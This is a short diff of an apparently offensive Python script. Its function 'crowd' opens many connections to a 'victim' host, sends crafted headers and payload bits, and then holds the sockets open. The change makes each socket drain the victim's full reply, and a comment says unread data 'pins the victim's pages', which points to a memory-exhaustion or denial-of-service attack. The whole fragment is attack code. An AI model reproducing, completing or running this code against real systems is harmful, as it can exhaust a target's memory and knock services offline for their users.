@@ -107,12 +107,13 @@ def crowd(prefix, victim, count):
         s = dial("%s%x" % (prefix, 0x1000 + i), victim)
         s.sendall(header(0, len(bits), 0, 0, 1) + bits + header(1, 0, 0, 0))
         stay.append(s)
-    welcome = 0
+    # the victim's map, all of it: what is unread here pins the victim's pages
     for s in stay:
         s.settimeout(30)
-        welcome += bool(s.recv(1))
-    say("here", welcome)
-    sys.stdin.read()
+        left = 48 + len(bits)
+        while left > 0:
+            left -= len(s.recv(65536)) or sys.exit("the victim closed")
+    say("here", len(stay))
     select.select([], [], [], 600)
 
 
